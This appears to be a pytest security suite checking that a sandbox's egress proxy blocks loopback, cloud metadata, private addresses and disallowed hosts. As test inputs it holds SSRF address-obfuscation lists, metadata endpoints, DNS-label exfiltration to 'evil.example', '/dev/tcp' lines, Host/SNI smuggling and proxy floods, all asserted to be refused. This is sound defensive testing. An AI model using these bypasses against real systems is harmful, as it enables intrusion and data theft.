"""E: network and egress.  Sinks, names and servers are the tests' own; whatever must not be reached counts what reaches it."""

import os
import socket
import ssl
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from cellfork import Denial, InvalidRequest, NetworkPolicy, Sandbox, SandboxGone, Template, Unsupported
from cellfork.client.transport import EmbeddedTransport
from cellfork.runtimes.egress.indexes import Indexes, read_indexes
from cellfork.runtimes.egress.proxy import Patience, Proxy
from cellfork.runtimes.namespaces.runtime import NamespacesRuntime
from tests.runtimes.egress.support import (
    CANARY,
    PUBLIC,
    PUBLIC_V6,
    Names,
    Server,
    Wire,
    client_hello,
    echo,
    page,
)
from tests.security.catalogue import row
from tests.security.conftest import LIMITS, ask, shell

BARE = Template("bare", preload=())
ALLOWED = ["web.example", "echo.example:7", "*.sub.example"]

PRELUDE = f"""
import base64, errno, json, os, socket, time
from urllib.parse import urlsplit
proxy = urlsplit(os.environ.get('HTTP_PROXY', ''))
login = base64.b64encode(f'{{proxy.username}}:{{proxy.password}}'.encode()).decode()
CANARY = {CANARY!r}

def send(data, timeout=10):
    answer = b''
    with socket.create_connection(('127.0.0.1', 3128), timeout) as way:
        try:
            way.sendall(data)
            while piece := way.recv(65536):
                answer += piece
        except OSError:
            pass
    return answer

def head(line, *fields):
    return '\\r\\n'.join([line, 'Proxy-Authorization: Basic ' + login, *fields, '', '']).encode('latin-1')

def status(answer):
    return int(answer.split(b' ')[1]) if answer.startswith(b'HTTP/') else 0

def get(host, path='/', *fields):
    return status(send(head(f'GET http://{{host}}{{path}} HTTP/1.1', f'Host: {{host}}', *fields) + CANARY))

def tunnel(authority, data=b'', timeout=10):
    answer = b''
    with socket.create_connection(('127.0.0.1', 3128), timeout) as way:
        try:
            way.sendall(head(f'CONNECT {{authority}} HTTP/1.1', f'Host: {{authority}}'))
            while b'\\r\\n\\r\\n' not in answer and (piece := way.recv(65536)):
                answer += piece
            code = status(answer)
            if code == 200:
                way.sendall(data)
                way.shutdown(socket.SHUT_WR)
                while piece := way.recv(65536):
                    answer += piece
        except OSError:
            code = status(answer)
    return code, answer.partition(b'\\r\\n\\r\\n')[2].decode('latin-1')

def attempt(address, port, kind=socket.SOCK_STREAM, family=socket.AF_INET):
    began = time.monotonic()
    try:
        with socket.socket(family, kind) as way:
            way.settimeout(5)
            way.connect((address, port))
            way.send(CANARY)
            name = 'connected'
    except OSError as error:
        name = errno.errorcode.get(error.errno, repr(error))
    return [name, time.monotonic() - began]
"""


@dataclass
class World:
    """An engine whose proxy sees a small internet, and servers that stand for the outside and for this machine."""

    transport: EmbeddedTransport
    names: Names
    wire: Wire
    web: Server
    echo: Server
    trap: Server

    def create(self, network, **options) -> Sandbox:
        return Sandbox.create(BARE, transport=self.transport, limits=LIMITS, network=network, **options)

    def forget(self) -> None:
        for server in (self.web, self.echo, self.trap):
            server.received.clear()
            server.connections = 0
        self.web.pages.clear()
        self.names.asked.clear()
        self.names.known = {
            "web.example": [PUBLIC],
            "echo.example": ["1.0.0.1"],
            "metadata.google.internal": ["169.254.169.254"],
            "localhost": ["127.0.0.1"],
        }
        self.wire.dialled.clear()


@pytest.fixture(scope="module")
def outside() -> Iterator[World]:
    """One runtime for all tests: its zygote is started once."""
    web, echoing, trap = Server(), Server(echo), Server()
    names, wire = Names(), Wire({PUBLIC: web, PUBLIC_V6: web, "1.0.0.1": echoing})
    proxy = Proxy(names, wire.connect, Indexes, Patience(head=1.0, connect=1.0, idle=5.0, reply=1.0))
    transport = EmbeddedTransport(runtimes={"namespaces": NamespacesRuntime(proxy=proxy, prefork=0, pool=0)})
    world = World(transport, names, wire, web, echoing, trap)
    world.create(None).kill()
    yield world
    transport.close()
    for server in (web, echoing, trap):
        server.close()


@pytest.fixture
def world(outside: World) -> World:
    outside.forget()
    return outside


@pytest.fixture
def allowed(world: World) -> Iterator[Sandbox]:
    with world.create(ALLOWED) as sandbox:
        yield sandbox


@pytest.fixture
def public(world: World) -> Iterator[Sandbox]:
    with world.create("public") as sandbox:
        yield sandbox


def ask_there(sandbox: Sandbox, code: str, timeout: float = 30):
    return ask(sandbox, PRELUDE + "\n" + textwrap.dedent(code), timeout)


def nothing_left(world: World) -> bool:
    """Nobody was asked for a name, nothing was connected to, not a byte has arrived."""
    return not (
        world.names.asked
        or world.wire.dialled
        or world.web.everything
        or world.echo.everything
        or world.trap.connections
    )


def own_addresses() -> list[str]:
    """Return addresses of this machine other than loopback."""
    found = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout.split()
    return [address for address in found if ":" not in address]


# --------------------------------------------------------------------------------------------------- E01


@row("E01", "ENETUNREACH at once for TCP and UDP, no proxy, no resolver")
def test_e01_no_network_by_default(world):
    """The default is nothing: no listener, no variable, no route, and no hang."""
    with world.create(None) as sandbox:
        code = """
        answer = [attempt('93.184.215.14', 443), attempt('93.184.215.14', 53, socket.SOCK_DGRAM),
                  attempt('2606:4700::1111', 443, family=socket.AF_INET6), attempt('127.0.0.1', 3128)]
        began = time.monotonic()
        try:
            socket.getaddrinfo('web.example', 80)
            answer.append(['resolved', 0])
        except OSError:
            answer.append(['not resolved', time.monotonic() - began])
        answer.append([','.join(sorted(name for name in os.environ if 'proxy' in name.lower())), 0])
        """
        outcomes = ask_there(sandbox, code)
        assert [outcome[0] for outcome in outcomes] == [
            "ENETUNREACH",
            "ENETUNREACH",
            "ENETUNREACH",
            "ECONNREFUSED",
            "not resolved",
            "",
        ]
        assert max(outcome[1] for outcome in outcomes) < 1
        assert sandbox.network.denied() == []
        assert sandbox.network.policy == NetworkPolicy()
    assert nothing_left(world)


@row("E01", "ENETUNREACH at once")
def test_e01_bash_has_no_network(world):
    """The same from bash, whose own sockets need no program."""
    with world.create(None) as sandbox:
        done = shell(sandbox, "echo x > /dev/tcp/93.184.215.14/80")
        assert done.exit_code != 0
        assert "Network is unreachable" in done.stderr


# --------------------------------------------------------------------------------------------- E02 to E07


@row("E02", "out of reach, by every name and address of this machine, in every mode")
@pytest.mark.parametrize("network", [None, ALLOWED, "public"], ids=["none", "allow", "public"])
def test_e02_the_hosts_loopback(world, network):
    """A server on this machine's loopback gets no connection: neither directly nor through the proxy."""
    port = world.trap.port
    world.names.known |= {"a.sub.example": ["127.0.0.1"], "b.sub.example": own_addresses() or ["127.0.0.1"]}
    places = [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "0.0.0.0",
        "a.sub.example",
        "b.sub.example",
        *own_addresses(),
    ]
    with world.create(network) as sandbox:
        code = f"""
        answer = [attempt('127.0.0.1', {port})[0]]
        if proxy.hostname:
            for place in {places}:
                answer += [tunnel(f'{{place}}:{port}', CANARY)[0], get(f'{{place}}:{port}'), get(place), tunnel(place + ':443')[0]]
        """
        first, *others = ask_there(sandbox, code)
    assert first == "ECONNREFUSED"
    assert set(others) <= {403, 502}
    assert world.trap.connections == 0
    assert world.wire.dialled == []


METADATA = [
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "100.100.100.200",
    "168.63.129.16",
    "169.254.170.2",
    "192.0.0.192",
    "[::ffff:169.254.169.254]",
    "[fd20:ce::254]",
]


@row("E03", "403 in every mode; nothing is dialled")
@pytest.mark.parametrize("network", [["metadata.google.internal"], "public"], ids=["allow", "public"])
def test_e03_metadata_services(world, network):
    """No policy opens the way to a cloud's metadata, not even one that names it."""
    with world.create(network) as sandbox:
        code = f"answer = [[get(host), tunnel(host + ':443')[0]] for host in {METADATA}]"
        assert ask_there(sandbox, code) == [[403, 403]] * len(METADATA)
    assert world.wire.dialled == []


@row("E04", "403 in every mode")
def test_e04_private_ranges(world, public):
    """By address, and by a name that resolves there: the same answer."""
    addresses = [
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "100.64.0.1",
        "169.254.1.1",
        "224.0.0.251",
        "255.255.255.255",
        "198.18.0.1",
        "203.0.113.7",
        "240.0.0.1",
        "fd12::1",
        "fe80::1",
        "ff02::1",
        "2001:db8::1",
        "64:ff9b::a00:1",
        "2002:a00:1::1",
    ]
    for number, address in enumerate(addresses):
        world.names.known[f"n{number}.example"] = [address]
    hosts = [f"[{address}]" if ":" in address else address for address in addresses]
    hosts += [f"n{number}.example" for number in range(len(addresses))]
    assert ask_there(public, f"answer = [get(host) for host in {hosts}]") == [403] * len(hosts)
    assert world.wire.dialled == []


FORMS = """
127.0.0.1 127.0.0.1. 127.1 127.0.1 127.000.000.001 0177.0.0.1 0177.1 0x7f.0.0.1 0x7F.1 0x7f000001 0X7F000001 2130706433 017700000001 127.0x1
00000177.0.0.1 0.0.0.0 0 0x0 00 0.0 10.0.0.1 10.1 0xa.1 012.0.0.1 167772161 0xa000001 172.16.1 0xac100001 192.168.1 0xc0a80001 3232235521
169.254.43518 0xa9fea9fe 2852039166 0251.0376.0251.0376 [::] [::1] [0:0:0:0:0:0:0:1] [0::1] [::127.0.0.1] [::ffff:127.0.0.1] [::FFFF:7F00:1]
[::ffff:0:127.0.0.1] [::ffff:10.0.0.1] [::ffff:a00:1] [::ffff:169.254.169.254] [64:ff9b::7f00:1] [64:ff9b::10.0.0.1] [2002:7f00:1::]
[2001:0:5ef5:79fb::1] [fe80::1%25eth0] [fe80::1%eth0] [::1%lo] [fc00::1] [fd00::1] [2606:4700::5efe:127.0.0.1] [127.0.0.1] 127.0.0.1%lo ::1 1.2.3.4.5 256.0.0.1
1..3 example.1 0x7f.example.0x1 127.0.0.1.. .127.0.0.1 127..1 127.0.0.1/ 127.0.0.1\\\\ ①②⑦.0.0.1 127。0。0。1 1e3 127.0.0.-1 +127.0.0.1
""".split()  # noqa: SIM905 - seventy strings in quotes are harder to read


@row("E05", "the verdict of the canonical form: refused; more than 60 forms, two methods, two modes")
@pytest.mark.parametrize("network", [ALLOWED, "public"], ids=["allow", "public"])
def test_e05_every_form_of_an_address(world, network):
    """However an address is written, it is refused, no name is looked up for it, and not a byte leaves."""
    assert len(FORMS) >= 60
    with world.create(network) as sandbox:
        code = f"""
        forms = [form.encode().decode('latin-1') for form in {FORMS!r}]
        answer = [[get(form), tunnel(form + ':443', CANARY)[0], tunnel(form + ':80', CANARY)[0]] for form in forms]
        """
        outcomes = ask_there(sandbox, code, timeout=60)
    reached = [
        (form, codes)
        for form, codes in zip(FORMS, outcomes, strict=True)
        if not set(codes) <= {400, 403, 502}
    ]
    # 1e3 is a name like any other, which nobody has: it may be looked up where every name may be.
    assert reached == []
    assert set(world.names.asked) <= {"1e3"}
    assert world.wire.dialled == []
    assert world.web.everything == world.trap.everything == b""


@row("E06", "IPv6 is refused exactly as IPv4: ENETUNREACH directly, the same table in the proxy")
def test_e06_ipv6(world, public):
    """A name with only private IPv6 addresses is out of reach; one with a public address is not."""
    world.names.known |= {
        "six.example": [PUBLIC_V6],
        "bad.example": ["fd00::1"],
        "mixed.example": [PUBLIC_V6, "::1"],
    }
    code = """
    answer = [get('six.example'), get('bad.example'), get('mixed.example'),
              attempt('2606:4700::1111', 443, family=socket.AF_INET6)[0], attempt('fd00::2', 443, family=socket.AF_INET6)[0]]
    """
    assert ask_there(public, code) == [200, 403, 403, "ENETUNREACH", "ENETUNREACH"]
    assert world.wire.dialled == [(PUBLIC_V6, 80)]


@row("E07", "403: an allow-list is a list of names")
def test_e07_addresses_in_allow_list_mode(world, allowed):
    """Not even the address of an allowed name."""
    code = (
        f"answer = [get({PUBLIC!r}), tunnel('{PUBLIC}:443')[0], get('[{PUBLIC_V6}]'), tunnel('1.0.0.1:7')[0]]"
    )
    assert ask_there(allowed, code) == [403] * 4
    assert nothing_left(world)
    assert {denial.host for denial in allowed.network.denied()} == {PUBLIC, PUBLIC_V6, "1.0.0.1"}


# --------------------------------------------------------------------------------------------- E08 to E11


@row("E08", "the proxy resolves itself; nothing inside decides where an allowed name leads")
def test_e08_spoofed_names_inside(world, allowed):
    """/etc/hosts and resolv.conf are read-only, and would not matter: a resolver inside is never asked."""
    done = shell(
        allowed,
        f"echo '{PUBLIC} web.example' >> /etc/hosts; echo 'nameserver 127.0.0.1' > /etc/resolv.conf; true",
    )
    assert done.stderr.count("/etc/hosts: ") == done.stderr.count("/etc/resolv.conf: ") == 1
    assert PUBLIC not in shell(allowed, "cat /etc/hosts").stdout
    code = """
    fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fake.bind(('127.0.0.1', 5353))
    fake.settimeout(0.3)
    os.environ['HOSTALIASES'] = '/tmp/aliases'
    open('/tmp/aliases', 'w').write('web.example evil.example\\n')
    answer = [get('web.example')]
    try:
        answer.append(len(fake.recv(512)))
    except TimeoutError:
        answer.append(0)
    """
    assert ask_there(allowed, code) == [200, 0]
    assert world.names.asked == ["web.example"]
    assert world.wire.dialled == [(PUBLIC, 80)]


@row("E09", "no query leaves for a name that is not allowed")
def test_e09_data_in_names(world, allowed):
    """Labels full of data reach no resolver, whatever is asked and however often."""
    code = """
    data = CANARY.hex()
    hosts = [f'{data}.evil.example', f'{data}.web.example', f'{data}.sub.example.evil.example', 'sub.example', 'x' * 63 + '.evil.example']
    answer = [[get(host), tunnel(host + ':443')[0]] for host in hosts]
    try:
        socket.getaddrinfo(hosts[0], 80)
        answer.append('resolved')
    except OSError:
        answer.append('not resolved')
    """
    assert ask_there(allowed, code) == [[403, 403]] * 5 + ["not resolved"]
    assert nothing_left(world)


@row("E10", "ENETUNREACH directly, 403 through the proxy")
def test_e10_other_resolvers(world, public):
    """DNS over UDP, TCP and TLS at well-known resolvers: there is no way; over HTTPS in an allow-list neither."""
    code = """
    answer = [attempt('8.8.8.8', 53, socket.SOCK_DGRAM)[0], attempt('8.8.8.8', 53)[0]]
    answer += [tunnel(place, CANARY)[0] for place in ('8.8.8.8:53', '1.1.1.1:853', 'dns.google:53', 'dns.google:853')]
    """
    assert ask_there(public, code) == ["ENETUNREACH", "ENETUNREACH", 403, 403, 403, 403]
    public.network.set_policy(ALLOWED)
    assert ask_there(public, "answer = [tunnel('dns.google:443')[0], tunnel('1.1.1.1:443')[0]]") == [403, 403]
    assert nothing_left(world)


@row("E11", "every answer is checked, the checked address is used, each connection anew")
@pytest.mark.parametrize("flip", ["127.0.0.1", "10.0.0.1", "169.254.169.254", "::1", "::ffff:127.0.0.1"])
def test_e11_rebinding(world, allowed, flip):
    """A name that is public once and private the next time is denied the next time."""
    world.names.known["web.example"] = [[PUBLIC], [flip], [PUBLIC, flip]]
    assert ask_there(allowed, "answer = [get('web.example') for _ in range(3)]") == [200, 403, 403]
    assert world.wire.dialled == [(PUBLIC, 80)]
    assert world.names.asked == ["web.example"] * 3
    assert all("out of reach" in denial.reason for denial in allowed.network.denied())


# --------------------------------------------------------------------------------------------- E12 to E15


@row("E12", "the strictest of CONNECT, SNI and Host; an absent SNI is denied")
def test_e12_names_that_disagree(world, allowed):
    """TLS for another host than the tunnel's, for none, or no TLS at all: not a byte goes on."""
    good = client_hello("web.example").hex()
    bad = [
        client_hello(name).hex()
        for name in ("evil.example", None, "web.example.evil.example", "web.example\0x", "")
    ]
    ech = client_hello("evil.example", extra=b"\xfe\x0d\x00\x04\x00\x01\x02\x03").hex()
    code = f"""
    for hello in {[*bad, ech]}:
        tunnel('web.example:443', bytes.fromhex(hello) + CANARY)
    tunnel('web.example:443', b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n' + CANARY)
    answer = [status(send(head('GET http://web.example/ HTTP/1.1', 'Host: evil.example') + CANARY)),
              status(send(head('GET http://web.example/ HTTP/1.1', 'Host: web.example', 'Host: evil.example') + CANARY)),
              status(send(head('CONNECT web.example:443 HTTP/1.1', 'Host: evil.example:443') + CANARY))]
    """
    assert ask_there(allowed, code) == [403, 400, 403]
    assert world.web.everything == b""
    assert (
        ask_there(allowed, f"answer = tunnel('web.example:443', bytes.fromhex('{good}') + CANARY)[0]") == 200
    )
    assert world.web.everything.endswith(CANARY)


@row("E12", "a real TLS client says the right name and is let through")
def test_e12_real_tls(world, allowed):
    """What ssl sends is understood: with the right name it passes, with another one it does not."""
    code = """
    import ssl
    context = ssl.create_default_context()
    answer = []
    for name in ('web.example', 'evil.example'):
        with socket.create_connection(('127.0.0.1', 3128), 5) as way:
            way.sendall(head('CONNECT web.example:443 HTTP/1.1'))
            way.recv(4096)
            way.settimeout(1)
            try:
                context.wrap_socket(way, server_hostname=name)
            except ssl.SSLError as error:
                answer.append(error.reason)
            except OSError as error:
                answer.append(type(error).__name__)
    """
    first, second = ask_there(allowed, code, timeout=20)
    assert first != second
    assert "ACCESS_DENIED" in second
    assert len(world.web.received) >= 1
    assert b"evil.example" not in world.web.everything


NAMES = [
    ("web.example", 200),
    ("WEB.Example", 200),
    ("web.example.", 200),
    ("a.sub.example", 200),
    ("a.b.c.sub.example", 200),
    ("sub.example", 403),
    ("evil-web.example", 403),
    ("web.example.evil.example", 403),
    ("xsub.example", 403),
    ("web.example..", 400),
    (".web.example", 400),
    ("web..example", 400),
    ("web.example\\0.evil.example", 400),
    ("evil.example\\0.sub.example", 400),
    ("web.example%00", 400),
    ("web.example%2eevil.example", 400),
    ("web.example\\t", 400),
    ("web.example\\x0b", 400),
    ("web.example/@evil.example", 400),
    ("evil.example#.sub.example", 400),
    ("evil.example?.sub.example", 400),
    ("evil.example\\\\.sub.example", 400),
    ("user@web.example", 400),
    ("web_.example", 400),
    ("-web.sub.example", 400),
    ("xn--.sub.example", 400),
    ("w\\xe9b.example", 400),
    ("\\xef\\xbd\\x97eb.example", 400),
    ("a" * 64 + ".sub.example", 400),
    ("a." * 130 + "sub.example", 400),
    ("*.sub.example", 400),
    ("web.example:80:80", 400),
    ("web.example:0x50", 400),
]


@row("E13", "one canonical form, whole labels; everything else is refused")
def test_e13_names(world, allowed):
    """Case and a trailing dot are nothing; control characters, other alphabets and look-alikes are refused."""
    world.names.known |= {"a.sub.example": [PUBLIC], "a.b.c.sub.example": [PUBLIC]}
    code = "answer = [get(name) for name in [{}]]".format(", ".join(f"'{name}'" for name, _ in NAMES))
    outcomes = ask_there(allowed, code)
    expected = [code for _, code in NAMES]
    assert [pair for pair in zip(NAMES, outcomes, strict=True) if pair[0][1] != pair[1]] == []
    assert len(outcomes) == len(expected)
    assert set(world.names.asked) == {"web.example", "a.sub.example", "a.b.c.sub.example"}
    for line in (
        b"CONNECT web.example:443\r\nHost: evil",
        b"CONNECT web.example :443",
        b"CONNECT web.example\n:443",
    ):
        assert ask_there(allowed, f"answer = status(send(head({line.decode()!r} + ' HTTP/1.1')))") == 400


@row("E14", "the redirect is answered as any request: 403")
def test_e14_redirects(world, allowed):
    """A client that follows an allowed host's redirect is asked again, by name and by address."""
    for path, place in (
        ("/name", "http://evil.example/"),
        ("/address", "http://169.254.169.254/"),
        ("/own", f"http://127.0.0.1:{world.trap.port}/"),
    ):
        world.web.pages[path] = page(b"", "302 Found", f"Location: {place}\r\n")
    code = """
    import urllib.request, urllib.error
    os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''
    answer = []
    for path in ('/name', '/address', '/own'):
        try:
            answer.append(urllib.request.urlopen('http://web.example' + path, timeout=5).status)
        except urllib.error.HTTPError as error:
            answer.append(error.code)
    """
    assert ask_there(allowed, code) == [403, 403, 403]
    assert world.trap.connections == 0
    assert {address for address, _ in world.wire.dialled} == {PUBLIC}


@row("E15", "one connection is one request; a tunnel stays its host's")
def test_e15_reuse(world, allowed):
    """A second request on an allowed connection, and a second CONNECT in a tunnel, reach nobody."""
    code = """
    second = head('GET http://evil.example/ HTTP/1.1', 'Host: evil.example') + CANARY
    answer = [send(head('GET http://web.example/ HTTP/1.1', 'Host: web.example') + second).count(b'HTTP/1.1 '),
              send(head('POST http://web.example/ HTTP/1.1', 'Host: web.example', 'Content-Length: 2') + b'xx' + second).count(b'HTTP/1.1 ')]
    tunnel('web.example:443', head('CONNECT evil.example:443 HTTP/1.1') + CANARY)
    """
    assert ask_there(allowed, code) == [1, 1]
    assert b"evil" not in world.web.everything
    assert CANARY not in world.web.everything
    assert world.names.asked == ["web.example"] * 3


# --------------------------------------------------------------------------------------------- E16 to E21


@row("E16", "403 for odd ports; ENETUNREACH or EPERM for everything that is not TCP through the proxy")
def test_e16_ports_and_protocols(world, public):
    """22, 25, 53, 6379 and their like, UDP (QUIC), ICMP, and a relay that somebody runs inside."""
    ports = [
        1,
        21,
        22,
        23,
        25,
        53,
        110,
        143,
        445,
        465,
        587,
        853,
        993,
        2375,
        3306,
        5432,
        6379,
        8080,
        8443,
        9200,
        11211,
        27017,
        65535,
    ]
    code = f"""
    answer = [sorted({{tunnel(f'web.example:{{port}}', CANARY)[0] for port in {ports}}}),
              sorted({{get(f'web.example:{{port}}') for port in {ports}}}), tunnel('web.example:80', CANARY)[0],
              attempt('93.184.215.14', 443, socket.SOCK_DGRAM)[0]]
    for kind, protocol in ((socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
        try:
            with socket.socket(socket.AF_INET, kind, protocol) as way:
                way.sendto(b'\\x08\\x00' + CANARY, ('93.184.215.14', 0))
            answer.append('sent')
        except OSError as error:
            answer.append(errno.errorcode[error.errno])
    import threading
    relay = socket.create_server(('127.0.0.1', 9999))
    def serve():
        one, _ = relay.accept()
        with one, socket.create_connection(('127.0.0.1', 3128)) as way:
            way.sendall(one.recv(65536))
            one.sendall(way.recv(65536))
    threading.Thread(target=serve).start()
    with socket.create_connection(('127.0.0.1', 9999)) as way:
        way.sendall(head('CONNECT 127.0.0.1:22 HTTP/1.1'))
        answer.append(status(way.recv(4096)))
    """
    tunnels, gets, plain, udp, raw, ping, relayed = ask_there(public, code)
    assert (tunnels, gets, plain, relayed) == ([403], [403], 403, 403)
    assert udp == "ENETUNREACH"
    assert raw in {"EPERM", "EPROTONOSUPPORT", "EACCES"}
    assert ping in {"EPERM", "EACCES", "EPROTONOSUPPORT", "ENETUNREACH"}
    assert world.wire.dialled == []


@row("E17", "431, 408, 503 and closed connections: bounded, and the neighbour computes on")
def test_e17_floods_of_the_proxy(world, allowed):
    """A head of a megabyte, one that trickles, five hundred connections at once, TLS that is none."""
    code = """
    answer = [status(send(head('GET http://web.example/ HTTP/1.1', 'X: ' + 'a' * (1 << 20)))),
              status(send(head('GET http://web.example/ HTTP/1.1', *['A: b'] * 5000))),
              status(send(b'GET http://web.example/ HTTP/1.1')),
              status(send(b'\\x00' * 100 + b'\\r\\n\\r\\n'))]
    ways = []
    try:
        for _ in range(500):
            way = socket.socket()
            way.setblocking(False)
            way.connect_ex(('127.0.0.1', 3128))
            ways.append(way)
    except OSError:
        pass
    answer.append(len(ways))
    """
    with world.create(None) as neighbour:
        neighbour.run_code("1")
        outcome: list[list[int]] = []
        thread = threading.Thread(target=lambda: outcome.append(ask_there(allowed, code)))
        thread.start()
        times = []
        while thread.is_alive():
            start = time.monotonic()
            assert neighbour.run_code("1 + 1").text == "2"
            times.append(time.monotonic() - start)
        thread.join()
    assert outcome[0][:4] == [431, 431, 408, 400]
    assert allowed.network.traffic().connections <= 64
    assert sorted(times)[len(times) // 2] < 0.2
    hellos = [
        b"\x16\x03\x01\xff\xff",
        b"\x16\x03\x01\x00\x01\x01" * 200,
        b"\x16\x03\x01\x40\x00\x01\xff\xff\xff" + bytes(40000),
    ]
    allowed.run_code("for way in ways: way.close()")
    time.sleep(0.5)
    for hello in hellos:
        ask_there(allowed, f"answer = tunnel('web.example:443', bytes.fromhex('{hello.hex()}') + CANARY)[0]")
    assert CANARY not in world.web.everything


@row("E18", "ENETUNREACH: the namespace is the bound, not the variables")
def test_e18_without_the_variables(world, public):
    """Unset, emptied or ignored: the proxy is the only way, with its password only."""
    code = """
    for name in [name for name in os.environ if 'proxy' in name.lower()]:
        del os.environ[name]
    answer = [attempt('93.184.215.14', 80)[0], attempt('93.184.215.14', 443)[0],
              status(send(b'GET http://web.example/ HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')),
              status(send(b'CONNECT web.example:443 HTTP/1.1\\r\\n\\r\\n'))]
    """
    assert ask_there(public, code) == ["ENETUNREACH", "ENETUNREACH", 407, 407]
    done = shell(public, "unset ${!http*} ${!HTTP*}; exec 3<>/dev/tcp/93.184.215.14/80 && echo reached")
    assert "reached" not in done.stdout
    assert nothing_left(world)


@row(
    "E19",
    "nothing inside belongs to the proxy: no process, no descriptor, no file, no interface to configure",
)
def test_e19_the_proxy_is_out_of_reach(world, allowed):
    """Its processes are not in /proc, its socket is nobody's in here, its certificates are read-only, its network fixed."""
    code = """
    import glob
    own = set()
    for path in glob.glob('/proc/[0-9]*/fd/*'):
        try:
            own.add(os.readlink(path))
        except OSError:  # init's, which no code may look at
            continue
    listening = [line.split()[9] for line in open('/proc/net/tcp').read().splitlines()[1:] if line.split()[3] == '0A']
    answer = [sum(f'socket:[{inode}]' in own for inode in listening), len(listening)]
    import subprocess
    commands = ['ip link add d type dummy', 'ip addr add 10.0.0.2/8 dev lo', 'ip route add default dev lo', 'iptables -F']
    answer.append([subprocess.run(command, shell=True, capture_output=True).returncode == 0 for command in commands])
    answer.append(os.access('/etc/ssl/certs', os.W_OK))
    try:
        with socket.socket() as again:
            again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            again.bind(('127.0.0.1', 3128))
            again.listen()
        answer.append('stolen')
    except OSError as error:
        answer.append(errno.errorcode[error.errno])
    """
    held, listening, configured, writable, stolen = ask_there(allowed, code)
    assert (held, listening) == (0, 1)
    assert configured == [False] * 4
    assert not writable
    assert stolen == "EADDRINUSE"


@row("E20", "ECONNREFUSED or ENOENT: sockets of the host do not exist inside")
def test_e20_unix_sockets(sandbox, tmp_path):
    """Neither abstract sockets nor those with a path, and no descriptor comes with a message of anybody's."""
    name = f"\0cellfork-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as abstract, socket.socket(socket.AF_UNIX) as pathname:
        abstract.bind(name)
        abstract.listen()
        pathname.bind(str(tmp_path / "s"))
        pathname.listen()
        code = f"""
        import errno, socket
        answer = []
        for place in ({name!r}, {str(tmp_path / "s")!r}, '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', '/var/run/docker.sock'):
            with socket.socket(socket.AF_UNIX) as way:
                answer.append(errno.errorcode[way.connect_ex(place)])
        """
        assert ask(sandbox, code) == ["ECONNREFUSED", "ENOENT", "ENOENT", "ENOENT", "ENOENT"]


@row("E21", "everybody has all ports: sandboxes do not clash with each other or the host")
def test_e21_the_same_port_everywhere(sandbox, neighbour):
    """A server on 0.0.0.0 in two sandboxes and on the host, all on one port, each seen by its own side only."""
    with socket.create_server(("127.0.0.1", 0)) as ours:
        port = ours.getsockname()[1]
        ours.settimeout(0.3)
        code = f"""
        import socket
        server = socket.create_server(('0.0.0.0', {port}))
        with socket.create_connection(('127.0.0.1', {port}), 2) as way:
            answer = way.getpeername()[1]
        """
        assert ask(sandbox, code) == ask(neighbour, code) == port
        with pytest.raises(TimeoutError):
            ours.accept()


@row("E22", "there is no way in: a port inside is nobody's outside, neither the host's nor a neighbour's")
def test_e22_no_way_in(sandbox, neighbour):
    """What listens inside is connected to by its own sandbox only."""
    port = ask(
        sandbox,
        "import socket\nserver = socket.create_server(('0.0.0.0', 0))\nanswer = server.getsockname()[1]",
    )
    for host in ("127.0.0.1", *own_addresses()):
        with pytest.raises(OSError):
            socket.create_connection((host, port), 0.5).close()
    code = f"import socket\nwith socket.socket() as way:\n    answer = way.connect_ex(('127.0.0.1', {port}))"
    assert ask(neighbour, code) != 0


# --------------------------------------------------------------------------------------------- E23 and E24


@row("E23", "the byte budget ends the upload, and it is told")
def test_e23_upload_over_an_allowed_host(world):
    """Not a byte more than the budget passes, in however many connections; the SDK shows the reason and the sum."""
    policy = NetworkPolicy("allow", ("echo.example:7",), upload="256K")
    with world.create(policy) as sandbox:
        ask_there(sandbox, "answer = [tunnel('echo.example:7', bytes(100_000))[0] for _ in range(5)]")
        assert len(world.echo.everything) <= 256 * 1024
        assert sandbox.network.traffic().sent == len(world.echo.everything)
        assert any("bytes in all" in denial.reason for denial in sandbox.network.denied())


@row("E24", "a new policy holds within a second, for live tunnels as well; none opens in between")
def test_e24_policy_change_with_live_connections(world):
    """A tunnel that the new policy denies ends; nothing new comes through; a way back needs a policy again."""
    with world.create(ALLOWED) as sandbox:
        code = """
        way = socket.create_connection(('127.0.0.1', 3128), 10)
        way.sendall(head('CONNECT echo.example:7 HTTP/1.1'))
        answer = status(way.recv(4096))
        way.sendall(b'one')
        answer = [answer, way.recv(10).decode()]
        """
        assert ask_there(sandbox, code) == [200, "one"]
        sandbox.network.set_policy(["web.example"])
        code = """
        began = time.monotonic()
        try:
            left = way.recv(10)
            way.sendall(CANARY)
        except OSError:
            left = b''
        answer = [left.decode(), time.monotonic() - began < 1, tunnel('echo.example:7', CANARY)[0], get('web.example')]
        """
        assert ask_there(sandbox, code) == ["", True, 403, 200]
        assert CANARY not in world.echo.everything
        sandbox.network.set_policy("none")
        assert ask_there(sandbox, "answer = [get('web.example'), tunnel('web.example:443')[0]]") == [403, 403]
        with pytest.raises(InvalidRequest):
            sandbox.network.set_policy([])
        assert sandbox.network.policy.mode == "none"
    with pytest.raises(SandboxGone):
        sandbox.network.set_policy(ALLOWED)
    with world.create(None) as closed, pytest.raises(Unsupported):
        closed.network.set_policy(ALLOWED)


# ------------------------------------------------------------------------------------ packages, and the SDK


def test_denials_are_readable(world, allowed):
    """Time, host, port and reason, in Python and after the end of the sandbox; the code inside can read the reason as well."""
    before = time.time()
    execution = allowed.run_code(
        "import urllib.request\ntry:\n    urllib.request.urlopen('https://evil.example')\nexcept OSError as error: print(error)"
    )
    assert "evil.example:443 is not allowed" in "".join(execution.logs.stdout)
